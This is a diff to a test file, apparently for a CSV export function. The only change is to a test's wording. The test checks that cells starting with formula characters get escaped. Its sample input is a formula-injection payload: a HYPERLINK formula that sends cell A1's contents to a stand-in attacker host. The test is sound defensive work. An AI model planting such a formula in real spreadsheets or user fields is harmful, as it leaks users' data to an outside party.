@@ -10,7 +10,7 @@ async function read(text: string): Promise<string[][]> {
   return lines
 }
 
-test('no cell begins with what a spreadsheet would run, whatever somebody has given as a name', () => {
+test('no cell begins with what a spreadsheet would run, whatever a fan has given as a name', () => {
   const attack = '=HYPERLINK("https://evil.example/?"&A1,"Ada")'
   assert.equal(csvLine([attack]), `"'${attack.replaceAll('"', '""')}"\r\n`)
   for (const text of ['=1', '+61 400', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1']) {
